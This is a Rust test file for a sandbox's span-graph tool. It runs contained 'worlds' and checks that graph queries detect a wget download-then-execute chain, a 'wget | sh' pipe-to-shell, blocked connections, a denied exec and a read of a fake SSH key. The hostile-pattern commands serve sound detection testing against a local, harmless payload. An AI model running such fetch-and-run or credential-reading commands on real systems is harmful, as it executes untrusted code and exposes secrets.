//! The span graph (issue 16): real worlds' traces ingested into IndraDB
//! (`substrate-graph`, through `substrate-cli graph`), and each query's
//! answer checked exactly: a download-then-run chain and `curl | sh`
//! against an HTTP server in a network namespace of the test's own, a
//! credential read, blocked connections, a denied exec. Ingesting twice
//! changes nothing, a killed ingest leaves a graph the next one completes,
//! corrupt and truncated lines are skipped and counted, and a world is
//! queryable within a second of its end (the monitor starts the ingest).

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Write};
use std::net::{IpAddr, SocketAddr, TcpListener};
use std::path::Path;
use std::process::{Child, Command, Output, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use substrate_net::link::{self, Bridge, WorldLink};
use substrate_net::netns::NetNs;
use substrate_tests::{bin, unique_id, unused_loopback_port, Runtime};

/// What the test's HTTP host serves, whatever the path: a script that
/// leaves a mark.
const PAYLOAD: &str = "#!/bin/sh\necho pwned > /tmp/pwned\n";
const HTTP: u16 = 8080;

/// A bridge of the test's own (worlds join it with `SUBSTRATE_BRIDGE`) and
/// one host on it, in a network namespace, serving [`PAYLOAD`] over HTTP
/// on port [`HTTP`]. Removed when dropped.
struct TestNet {
    bridge: Bridge,
    setting: String,
    host: WorldLink,
    _netns: NetNs,
}

impl TestNet {
    fn new() -> TestNet {
        static NEXT: AtomicU32 = AtomicU32::new(0);
        let n = NEXT.fetch_add(1, Ordering::SeqCst);
        let a = 200 + std::process::id() % 50;
        // Its own names and subnets (egress.rs uses `sbe…` and 10.100-199.N).
        let setting = format!("sbg{a}x{n},10.{a}.{n}.1/24,fd5c:{a:x}:{n:x}::1/64");
        let bridge: Bridge = setting.parse().unwrap();
        // A host on a subnet of its own: a world's resolver never admits an
        // address of the worlds' subnet from an answer.
        let v4 = bridge.v4.trunc();
        let v4: ipnet::Ipv4Net = format!(
            "{}/24",
            std::net::Ipv4Addr::from(u32::from(v4.network()) + (128 << 8) + 2)
        )
        .parse()
        .unwrap();
        let v6: ipnet::Ipv6Net = format!(
            "{}/64",
            std::net::Ipv6Addr::from(u128::from(bridge.v6.network()) + 202)
        )
        .parse()
        .unwrap();
        let netns = NetNs::new_anonymous().unwrap();
        let host = link::attach_service(&netns, &bridge, v4, v6).unwrap();
        let address = IpAddr::V4(host.v4);
        let listener = netns
            .run(|| TcpListener::bind(SocketAddr::new(address, HTTP)))
            .unwrap();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                std::thread::spawn(move || {
                    let mut reader = BufReader::new(stream);
                    let mut line = String::new();
                    while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                        line.clear();
                    }
                    let mut stream = reader.into_inner();
                    let _ = write!(
                        stream,
                        "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n{PAYLOAD}",
                        PAYLOAD.len()
                    );
                });
            }
        });
        TestNet {
            bridge,
            setting,
            host,
            _netns: netns,
        }
    }

    fn host_v4(&self) -> String {
        self.host.v4.to_string()
    }

    /// An address on the hosts' subnet that nothing answers at.
    fn nobody_v4(&self) -> String {
        std::net::Ipv4Addr::from(u32::from(self.host.v4) + 1).to_string()
    }
}

impl Drop for TestNet {
    fn drop(&mut self) {
        let _ = self.host.release();
        let _ = self.bridge.remove("/run/substrate/net".as_ref());
    }
}

/// An upstream DNS server on the host's loopback (dnsmasq), answering
/// `names`; stopped when dropped.
struct Upstream {
    child: Child,
    address: String,
}

impl Upstream {
    fn start(name: &str, address: &str) -> Upstream {
        let port = unused_loopback_port();
        let child = Command::new("dnsmasq")
            .args([
                "--keep-in-foreground",
                "--no-resolv",
                "--no-hosts",
                "--no-poll",
                "--bind-interfaces",
                "--listen-address=127.0.0.1",
                "--pid-file=",
                "--user=root",
                "--log-facility=-",
            ])
            .arg(format!("--port={port}"))
            .arg(format!("--host-record={name},{address}"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("dnsmasq (Debian: dnsmasq-base)");
        let address = format!("127.0.0.1:{port}");
        let deadline = Instant::now() + Duration::from_secs(10);
        while std::net::TcpStream::connect(&address).is_err() {
            assert!(Instant::now() < deadline, "dnsmasq did not start");
            std::thread::sleep(Duration::from_millis(20));
        }
        Upstream { child, address }
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `substrate-cli graph ARGS`, asserted to succeed; its stdout.
#[track_caller]
fn graph(runtime: &Runtime, args: &[&str]) -> String {
    let out = graph_output(runtime, args);
    assert!(
        out.status.success(),
        "graph {args:?}: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn graph_output(runtime: &Runtime, args: &[&str]) -> Output {
    let mut full = vec!["graph"];
    full.extend_from_slice(args);
    runtime.cli(&full).output().unwrap()
}

#[track_caller]
fn graph_json(runtime: &Runtime, args: &[&str]) -> Value {
    let mut full = args.to_vec();
    full.push("--json");
    serde_json::from_str(&graph(runtime, &full)).expect("JSON")
}

/// `cmd`'s exec span in `spans` (by its argv, joined).
#[track_caller]
fn exec_span<'a>(spans: &'a [Value], argv: &str) -> &'a Value {
    let found: Vec<&Value> = spans
        .iter()
        .filter(|s| s["kind"] == "exec" && s["end"].is_string() && joined(&s["argv"]) == argv)
        .collect();
    assert_eq!(found.len(), 1, "one exec span of {argv:?}: {found:#?}");
    found[0]
}

fn joined(argv: &Value) -> String {
    argv.as_array()
        .map(|a| {
            a.iter()
                .map(|s| s.as_str().unwrap_or(""))
                .collect::<Vec<_>>()
                .join(" ")
        })
        .unwrap_or_default()
}

fn id(span: &Value) -> &str {
    span["span_id"].as_str().unwrap()
}

/// A tree node as (argv, the files under /tmp it changed, its
/// connections, its decisions, its children): what the checks compare.
fn shape(node: &Value) -> Value {
    let tmp_changes: Vec<Value> = node["files"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"].as_str().unwrap().starts_with("/tmp/") && f["edge"] != "read")
        .map(|f| json!([f["edge"], f["path"], f["ops"], f["ok"]]))
        .collect();
    let connections: Vec<Value> = node["connections"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| !c["endpoint"].as_str().unwrap().starts_with("unix:"))
        .map(|c| {
            json!([
                c["endpoint"],
                c["names"],
                c["verdicts"],
                c["blocked"],
                c["ok"]
            ])
        })
        .collect();
    let decisions: Vec<Value> = node["decisions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| json!([d["decision"], d["subject"]]))
        .collect();
    // Sorted: a pipeline's commands start at once, in either order.
    let mut children: Vec<Value> = node["children"]
        .as_array()
        .unwrap()
        .iter()
        .map(shape)
        .collect();
    children.sort_by_key(|c| c.to_string());
    json!({
        "argv": joined(&node["argv"]),
        "changes": tmp_changes,
        "connections": connections,
        "decisions": decisions,
        "children": children,
    })
}

fn write_policy(dir: &Path) -> String {
    let out = Command::new("sha256sum")
        .arg("/usr/bin/false")
        .output()
        .unwrap();
    let sha = String::from_utf8(out.stdout).unwrap();
    let sha = sha.split(' ').next().unwrap();
    let path = dir.join("policy.yaml");
    std::fs::write(
        &path,
        format!(
            "version: 1\ncommands:\n  rules:\n    - match: {{ sha256: \"{sha}\" }}\n      \
             action: deny\n      reason: not this one\n"
        ),
    )
    .unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn the_queries_answer_exactly_what_real_worlds_did() {
    let net = TestNet::new();
    let upstream = Upstream::start("payload.test", &net.host_v4());
    let runtime = Runtime::new();
    let nobody = net.nobody_v4();

    // World A: a download run, `wget | sh`, a destination blocked twice.
    let a = unique_id("graph-net");
    let script_a = format!(
        "wget -q -O /tmp/payload http://payload.test:{HTTP}/payload.sh && chmod +x /tmp/payload \
         && /tmp/payload; \
         wget -q -T 1 -O - http://{nobody}:{HTTP}/ >/dev/null; \
         wget -q -T 1 -O - http://{nobody}:{HTTP}/ >/dev/null; \
         wget -q -O - http://payload.test:{HTTP}/payload.sh | sh; true"
    );
    let out = runtime
        .cli(&[
            "run",
            "--name",
            &a,
            "--dns-upstream",
            &upstream.address,
            "--allow",
            &format!("payload.test:{HTTP}/tcp"),
            "--",
            "sh",
            "-c",
            &script_a,
        ])
        .env("SUBSTRATE_BRIDGE", &net.setting)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // World B: a denied exec, tried twice; a credential written and read.
    let b = unique_id("graph-policy");
    let dir = tempfile::tempdir().unwrap();
    let policy = write_policy(dir.path());
    let script_b = "/usr/bin/false; /usr/bin/false; \
                    mkdir -p /tmp/home/.ssh && echo key > /tmp/home/.ssh/id_ed25519 \
                    && cat /tmp/home/.ssh/id_ed25519 > /dev/null; true";
    let out = runtime
        .cli(&[
            "run", "--name", &b, "--policy", &policy, "--", "sh", "-c", script_b,
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // Whatever the monitor's own ingest got to, this one finishes it.
    let report = graph_json(&runtime, &["ingest"]);
    assert!(
        report["reports"].as_array().unwrap().len() == 2,
        "{report:#}"
    );

    let spans_a = runtime.spans(&a);
    let spans_b = runtime.spans(&b);
    let sh_a = format!("sh -c {script_a}");
    let init_a = exec_span(
        &spans_a,
        &format!("/.substrate-init --lifeline=3 -- {sh_a}"),
    );
    let download = exec_span(
        &spans_a,
        &format!("wget -q -O /tmp/payload http://payload.test:{HTTP}/payload.sh"),
    );
    let payload = exec_span(&spans_a, "/bin/sh /tmp/payload");
    let piped_wget = exec_span(
        &spans_a,
        &format!("wget -q -O - http://payload.test:{HTTP}/payload.sh"),
    );
    let piped_sh = exec_span(&spans_a, "sh");
    let sh_a_span = exec_span(&spans_a, &sh_a);
    let host = format!("{}:{HTTP}/tcp", net.host_v4());
    let blocked = format!("{nobody}:{HTTP}/tcp");

    // tree WORLD: the processes, what they changed under /tmp, where they
    // connected, what the policy decided.
    let tree = graph_json(&runtime, &["tree", &a]);
    assert_eq!(tree["world"], a.as_str());
    assert_eq!(tree["root"]["kind"], "world");
    let allowed = json!([host, ["payload.test"], ["allow"], false, true]);
    // Each wget asks the world's resolver (Substrate's) for the name.
    let world_span = spans_a.iter().find(|s| s["kind"] == "world").unwrap();
    let resolver = format!("{}/udp", world_span["egress"]["resolver"].as_str().unwrap());
    let dns = json!([resolver, [], ["none"], false, true]);
    let wget_blocked = |argv: &str| {
        json!({"argv": argv, "changes": [], "decisions": [], "children": [],
               "connections": [[blocked, [], ["deny"], true, false]]})
    };
    let sorted = |mut v: Value| {
        let children = v["children"][0]["children"].as_array_mut().unwrap();
        children.sort_by_key(|c| c.to_string());
        v
    };
    assert_eq!(
        tree["root"]["children"]
            .as_array()
            .unwrap()
            .iter()
            .map(shape)
            .collect::<Vec<_>>(),
        vec![sorted(json!({
            "argv": joined(&init_a["argv"]),
            "changes": [], "connections": [], "decisions": [],
            "children": [{
                "argv": sh_a,
                "changes": [], "connections": [], "decisions": [],
                "children": [
                    {"argv": joined(&download["argv"]), "decisions": [], "children": [],
                     "changes": [["wrote", "/tmp/payload", ["create", "write"], true]],
                     "connections": [allowed, dns]},
                    {"argv": "chmod +x /tmp/payload", "connections": [], "decisions": [], "children": [],
                     "changes": [["wrote", "/tmp/payload", ["chmod"], true]]},
                    {"argv": "/bin/sh /tmp/payload", "connections": [], "decisions": [], "children": [],
                     "changes": [["wrote", "/tmp/pwned", ["create", "write"], true]]},
                    wget_blocked(&format!("wget -q -T 1 -O - http://{nobody}:{HTTP}/")),
                    wget_blocked(&format!("wget -q -T 1 -O - http://{nobody}:{HTTP}/")),
                    {"argv": joined(&piped_wget["argv"]), "changes": [], "decisions": [], "children": [],
                     "connections": [allowed, dns]},
                    // /tmp/pwned is there already: written, not created.
                    {"argv": "sh", "connections": [], "decisions": [], "children": [],
                     "changes": [["wrote", "/tmp/pwned", ["write"], true]]},
                ],
            }],
        }))]
    );

    // tree SPAN: the same, below one process.
    let below = graph_json(&runtime, &["tree", id(download)]);
    assert_eq!(below["world"], a.as_str());
    assert_eq!(below["root"]["span"], id(download));
    assert_eq!(shape(&below["root"])["connections"], json!([allowed, dns]));

    // who-wrote: which processes in which worlds, with their ancestry.
    let who = graph_json(&runtime, &["who-wrote", "/tmp/payload"]);
    let changes: Vec<Value> = who["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            json!([
                c["world"],
                c["edge"],
                c["ops"],
                c["process"]["span"],
                c["ancestry"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|p| p["span"].clone())
                    .collect::<Vec<_>>()
            ])
        })
        .collect();
    let chmod = exec_span(&spans_a, "chmod +x /tmp/payload");
    assert_eq!(
        changes,
        vec![
            json!([
                a,
                "wrote",
                ["create", "write"],
                id(download),
                [id(sh_a_span), id(init_a)]
            ]),
            json!([
                a,
                "wrote",
                ["chmod"],
                id(chmod),
                [id(sh_a_span), id(init_a)]
            ]),
        ]
    );
    let who = graph_json(&runtime, &["who-wrote", "/tmp/pwned"]);
    let writers: BTreeSet<String> = who["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["process"]["span"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        writers,
        BTreeSet::from([id(payload).to_owned(), id(piped_sh).to_owned()])
    );
    let nobody_wrote = graph_json(&runtime, &["who-wrote", "/tmp/never"]);
    assert_eq!(nobody_wrote["changes"], json!([]));

    // what-changed: the world's shell and every process below it.
    let changed = graph_json(&runtime, &["what-changed", id(sh_a_span)]);
    let paths: Vec<Value> = changed["changes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["path"].as_str().unwrap().starts_with("/tmp/"))
        .map(|c| json!([c["path"], c["edge"], c["ops"], c["by"]["span"]]))
        .collect();
    assert_eq!(
        paths,
        vec![
            json!(["/tmp/payload", "wrote", ["create", "write"], id(download)]),
            json!(["/tmp/payload", "wrote", ["chmod"], id(chmod)]),
            json!(["/tmp/pwned", "wrote", ["create", "write"], id(payload)]),
            json!(["/tmp/pwned", "wrote", ["write"], id(piped_sh)]),
        ]
    );
    assert_eq!(changed["processes"], 8);

    // connections: by world and process; --blocked across worlds.
    let conns = graph_json(&runtime, &["connections", "--world", &a]);
    let rows: Vec<Value> = conns["connections"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["family"] != "unix")
        .map(|c| {
            json!([
                c["process"]["span"],
                c["endpoint"],
                c["names"],
                c["blocked"],
                c["ok"]
            ])
        })
        .collect();
    let blocked_wgets: Vec<&Value> = spans_a
        .iter()
        .filter(|s| {
            s["kind"] == "exec"
                && s["end"].is_string()
                && joined(&s["argv"]) == format!("wget -q -T 1 -O - http://{nobody}:{HTTP}/")
        })
        .collect();
    assert_eq!(blocked_wgets.len(), 2);
    let mut expected = vec![
        json!([id(download), resolver, [], false, true]),
        json!([id(piped_wget), resolver, [], false, true]),
        json!([id(download), host, ["payload.test"], false, true]),
        json!([id(blocked_wgets[0]), blocked, [], true, false]),
        json!([id(blocked_wgets[1]), blocked, [], true, false]),
        json!([id(piped_wget), host, ["payload.test"], false, true]),
    ];
    expected.sort_by_key(|r| r.to_string());
    let mut rows_sorted = rows.clone();
    rows_sorted.sort_by_key(|r| r.to_string());
    assert_eq!(rows_sorted, expected);
    let blocked_only = graph_json(&runtime, &["connections", "--blocked"]);
    let rows: BTreeSet<(String, String, String)> = blocked_only["connections"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["world"].as_str().unwrap().to_owned(),
                c["process"]["span"].as_str().unwrap().to_owned(),
                c["endpoint"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        rows,
        BTreeSet::from([
            (a.clone(), id(blocked_wgets[0]).to_owned(), blocked.clone()),
            (a.clone(), id(blocked_wgets[1]).to_owned(), blocked.clone()),
        ])
    );
    let none = graph_json(&runtime, &["connections", "--world", &b]);
    assert_eq!(none["connections"], json!([]));

    // chains: across both worlds.
    let chains = graph_json(&runtime, &["chains"]);
    let found: BTreeSet<String> = chains["chains"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            let d = &c["detail"];
            match c["kind"].as_str().unwrap() {
                "download_exec" => json!([
                    c["world"],
                    "download_exec",
                    d["downloader"],
                    d["path"],
                    d["executor"],
                    d["endpoints"]
                ]),
                "pipe_to_shell" => {
                    json!([c["world"], "pipe_to_shell", d["downloader"], d["shell"]])
                }
                "denied_then_retried" => json!([
                    c["world"],
                    "denied_then_retried",
                    d["what"],
                    d["subject"],
                    d["endpoint"]
                ]),
                kind => json!([c["world"], kind, d["process"], d["path"], d["ok"]]),
            }
            .to_string()
        })
        .collect();
    let sh_b = exec_span(&spans_b, &format!("sh -c {script_b}"));
    let mkdir = exec_span(&spans_b, "mkdir -p /tmp/home/.ssh");
    let cat = exec_span(&spans_b, "cat /tmp/home/.ssh/id_ed25519");
    assert_eq!(
        found,
        [
            json!([
                a,
                "download_exec",
                id(download),
                "/tmp/payload",
                id(payload),
                [host]
            ])
            .to_string(),
            json!([a, "pipe_to_shell", id(piped_wget), id(piped_sh)]).to_string(),
            json!([a, "denied_then_retried", "connect", null, blocked]).to_string(),
            json!([b, "denied_then_retried", "policy", "/usr/bin/false", null]).to_string(),
            json!([b, "credential_write", id(mkdir), "/tmp/home/.ssh", true]).to_string(),
            json!([
                b,
                "credential_write",
                id(sh_b),
                "/tmp/home/.ssh/id_ed25519",
                true
            ])
            .to_string(),
            json!([
                b,
                "credential_read",
                id(cat),
                "/tmp/home/.ssh/id_ed25519",
                true
            ])
            .to_string(),
        ]
        .into_iter()
        .collect::<BTreeSet<String>>()
    );
    // The processes a chain names come with it.
    let download_chain = chains["chains"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["kind"] == "download_exec")
        .unwrap();
    assert_eq!(
        download_chain["processes"][id(payload)]["argv"],
        json!(["/bin/sh", "/tmp/payload"])
    );

    // The denied exec: two decisions, and no exec span. They hang under the
    // process the kernel held when it asked (the shell, or its forked child
    // that never ran anything: an actor without an exec span), wherever
    // that is in world B's tree.
    let tree_b = graph_json(&runtime, &["tree", &b]);
    fn decisions(node: &Value, out: &mut Vec<Value>) {
        for d in node["decisions"].as_array().unwrap() {
            if d["decision"] == "deny" {
                out.push(json!([d["subject"], d["rule"], d["reason"]]));
            }
        }
        for child in node["children"].as_array().unwrap() {
            decisions(child, out);
        }
    }
    let mut denied = Vec::new();
    decisions(&tree_b["root"], &mut denied);
    assert_eq!(
        denied,
        vec![json!(["/usr/bin/false", "commands.rules[0]", "not this one"]); 2],
        "{tree_b:#}"
    );
    assert!(
        !spans_b
            .iter()
            .any(|s| s["kind"] == "exec" && s["exe"] == "/usr/bin/false"),
        "a denied exec has no exec span"
    );

    // Pictures: DOT, and SVG from Graphviz.
    let dot = graph(&runtime, &["tree", &a, "--dot"]);
    assert!(dot.starts_with("digraph \"world "), "{dot}");
    assert!(dot.contains(&format!("\"endpoint:{blocked}\"")), "{dot}");
    let svg = graph(&runtime, &["chains", "--svg"]);
    assert!(
        svg.contains("<svg") && svg.contains("download_exec"),
        "{svg}"
    );
    let text = graph(&runtime, &["chains"]);
    assert!(text.contains("download_exec"), "{text}");

    // Ingesting again changes nothing; a rebuild makes the same graph.
    let before = graph(&runtime, &["dump"]);
    let again = graph_json(&runtime, &["ingest"]);
    for r in again["reports"].as_array().unwrap() {
        assert_eq!(
            (r["lines"].as_u64(), r["spans"].as_u64()),
            (Some(0), Some(0)),
            "{r:#}"
        );
    }
    assert_eq!(graph(&runtime, &["dump"]), before);
    graph(&runtime, &["rebuild"]);
    assert_eq!(graph(&runtime, &["dump"]), before);
    // So does ingesting a line at a time: batches do not change answers.
    let lines = tempfile::tempdir().unwrap();
    let dir = lines.path().to_str().unwrap();
    graph(
        &runtime,
        &["--graph-dir", dir, "ingest", "--batch-lines", "1"],
    );
    assert_eq!(graph(&runtime, &["--graph-dir", dir, "dump"]), before);
}

/// A world whose trace has many lines: a shell writing `files` files.
fn busy_world(runtime: &Runtime, files: u32) -> String {
    let id = unique_id("graph-busy");
    runtime.cli_run_ok(
        &id,
        &format!("i=0; while [ $i -lt {files} ]; do echo $i > /tmp/f$i; i=$((i+1)); done"),
    );
    id
}

fn ingest_command(runtime: &Runtime, graph_dir: &Path, world: &str, batch: &str) -> Command {
    let mut cmd = Command::new(bin("substrate-graph"));
    cmd.arg("--state-dir")
        .arg(runtime.state_dir())
        .arg("--graph-dir")
        .arg(graph_dir)
        .args(["ingest", "--batch-lines", batch, "--", world])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    cmd
}

fn dump(runtime: &Runtime, graph_dir: &Path) -> String {
    graph(
        runtime,
        &["--graph-dir", graph_dir.to_str().unwrap(), "dump"],
    )
}

fn ingested_lines(runtime: &Runtime, graph_dir: &Path) -> u64 {
    let out = graph_output(
        runtime,
        &[
            "--graph-dir",
            graph_dir.to_str().unwrap(),
            "worlds",
            "--json",
        ],
    );
    if !out.status.success() {
        return 0;
    }
    let worlds: Value = serde_json::from_slice(&out.stdout).unwrap();
    worlds["worlds"][0]["ingest"]["lines"].as_u64().unwrap_or(0)
}

#[test]
fn an_ingest_killed_mid_batch_leaves_a_graph_the_next_one_completes() {
    let runtime = Runtime::new();
    let world = busy_world(&runtime, 300);
    let whole = tempfile::tempdir().unwrap();
    assert!(ingest_command(&runtime, whole.path(), &world, "50")
        .status()
        .unwrap()
        .success());
    let expected = dump(&runtime, whole.path());
    let lines = ingested_lines(&runtime, whole.path());
    assert!(lines > 300, "{lines} lines");

    // Killed with its 4th batch written and its offset not: the batch is
    // in the store, the offset says to take it again.
    let killed = tempfile::tempdir().unwrap();
    let mut child = ingest_command(&runtime, killed.path(), &world, "50")
        .env("FAILPOINTS", "graph.ingest.batch_written=3*off->pause")
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while ingested_lines(&runtime, killed.path()) < 150 {
        assert!(
            Instant::now() < deadline,
            "the ingest did not reach its 4th batch"
        );
        assert!(child.try_wait().unwrap().is_none(), "the ingest ended");
        std::thread::sleep(Duration::from_millis(20));
    }
    // Its 4th batch takes milliseconds to write; then it waits at the
    // fail point, to be killed there.
    std::thread::sleep(Duration::from_millis(500));
    child.kill().unwrap();
    let status = child.wait().unwrap();
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&status),
        Some(9)
    );
    assert_eq!(ingested_lines(&runtime, killed.path()), 150);
    assert_ne!(dump(&runtime, killed.path()), expected);
    assert!(ingest_command(&runtime, killed.path(), &world, "50")
        .status()
        .unwrap()
        .success());
    assert_eq!(dump(&runtime, killed.path()), expected);

    // Killed anywhere: each run takes up where the last left off, and the
    // graph ends whole.
    let anywhere = tempfile::tempdir().unwrap();
    let mut kills = 0;
    for round in 0..200u64 {
        let mut child = ingest_command(&runtime, anywhere.path(), &world, "10")
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(20 + (round * 37) % 60));
        match child.try_wait().unwrap() {
            Some(status) => {
                assert!(status.success());
                if ingested_lines(&runtime, anywhere.path()) == lines {
                    break;
                }
            }
            None => {
                child.kill().unwrap();
                child.wait().unwrap();
                kills += 1;
            }
        }
    }
    assert!(kills > 0, "no ingest was killed on the way");
    assert!(ingest_command(&runtime, anywhere.path(), &world, "10")
        .status()
        .unwrap()
        .success());
    assert_eq!(dump(&runtime, anywhere.path()), expected);
}

#[test]
fn corrupt_and_truncated_lines_are_skipped_and_counted() {
    let runtime = Runtime::new();
    let world = unique_id("graph-lines");
    runtime.cli_run_ok(&world, "echo a > /tmp/a; echo b > /tmp/b");
    let trace = std::fs::read_to_string(runtime.world_dir(&world).join("trace.jsonl")).unwrap();
    let lines: Vec<&str> = trace.lines().collect();
    assert!(lines.len() > 4, "{trace}");

    // The same trace in a store of its own: line 2 corrupt, and a last
    // line cut short, as a writer's crash leaves it.
    let state = tempfile::tempdir().unwrap();
    let dir = state.path().join("worlds").join(&world);
    std::fs::create_dir_all(&dir).unwrap();
    let mut text = String::new();
    for (i, line) in lines.iter().enumerate() {
        if i == 1 {
            text.push_str(&line[..line.len() / 2]);
            text.push_str("#garbage\n");
        } else {
            text.push_str(line);
            text.push('\n');
        }
    }
    let cut = &lines[0][..40];
    text.push_str(cut);
    std::fs::write(dir.join("trace.jsonl"), &text).unwrap();
    let graph_dir = state.path().join("graph");
    let state_dir = state.path().to_str().unwrap();
    let report = graph_json(&runtime, &["--state-dir", state_dir, "ingest", &world]);
    let report = &report["reports"][0];
    assert_eq!(report["skipped"], 1, "{report:#}");
    assert_eq!(report["spans"], lines.len() - 1);
    assert_eq!(report["skipped_lines"][0]["line"], 2);
    assert!(
        report["skipped_lines"][0]["reason"]
            .as_str()
            .unwrap()
            .starts_with("not a span"),
        "{report:#}"
    );
    assert_eq!(report["unfinished"], cut.len());
    // What the other lines say is there.
    let who = graph_json(&runtime, &["--state-dir", state_dir, "who-wrote", "/tmp/b"]);
    assert_eq!(who["changes"].as_array().unwrap().len(), 1, "{who:#}");

    // The cut line ended (a writer that took over ends it with `\n`): it
    // is read now, and skipped and counted too.
    let mut file = std::fs::OpenOptions::new()
        .append(true)
        .open(dir.join("trace.jsonl"))
        .unwrap();
    file.write_all(b"\n").unwrap();
    let report = graph_json(&runtime, &["--state-dir", state_dir, "ingest", &world]);
    assert_eq!(report["reports"][0]["skipped"], 1);
    assert_eq!(
        report["reports"][0]["skipped_lines"][0]["line"],
        lines.len() + 1
    );
    let worlds = graph_json(&runtime, &["--state-dir", state_dir, "worlds"]);
    assert_eq!(worlds["worlds"][0]["ingest"]["skipped"], 2);
    assert_eq!(worlds["worlds"][0]["ingest"]["spans"], lines.len() - 1);
    assert!(graph_dir.join("db").is_dir());
}

#[test]
fn a_world_is_queryable_within_a_second_of_its_end() {
    let runtime = Runtime::new();
    let world = unique_id("graph-soon");
    runtime.cli_run_ok(&world, "echo soon > /tmp/soon");
    // The monitor started `substrate-graph ingest` as the world ended.
    let ended = Instant::now();
    loop {
        let out = graph_output(&runtime, &["who-wrote", "/tmp/soon", "--json"]);
        if out.status.success() {
            let who: Value = serde_json::from_slice(&out.stdout).unwrap();
            if who["changes"].as_array().is_some_and(|c| !c.is_empty()) {
                break;
            }
        }
        assert!(
            ended.elapsed() < Duration::from_secs(1),
            "not in the graph a second after the world ended: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let log = std::fs::read_to_string(runtime.world_dir(&world).join("graph.log")).unwrap();
    assert!(log.contains(&format!("world {world}: ")), "{log}");
}

#[test]
fn without_the_graph_binary_the_cli_says_how_to_build_it() {
    let dir = tempfile::tempdir().unwrap();
    let cli = dir.path().join("substrate-cli");
    // Copied by `cp`: a file this process wrote could be held open for
    // writing by a child another test forks meanwhile (ETXTBSY at exec).
    let copied = Command::new("cp")
        .arg(bin("substrate-cli"))
        .arg(&cli)
        .status()
        .unwrap();
    assert!(copied.success());
    let out = Command::new(&cli)
        .args(["graph", "worlds"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("substrate-graph is not installed")
            && stderr.contains("cargo build -p substrate-graph"),
        "{stderr}"
    );
}
